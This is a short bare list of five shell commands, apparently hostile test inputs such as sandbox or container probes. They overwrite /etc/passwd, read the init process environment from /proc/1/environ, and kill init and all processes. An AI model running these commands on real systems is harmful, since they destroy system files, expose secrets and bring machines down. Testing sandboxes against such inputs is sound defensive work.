id >&2
echo x > /etc/passwd
cat /proc/1/environ >&2
kill -9 1
kill -9 -1
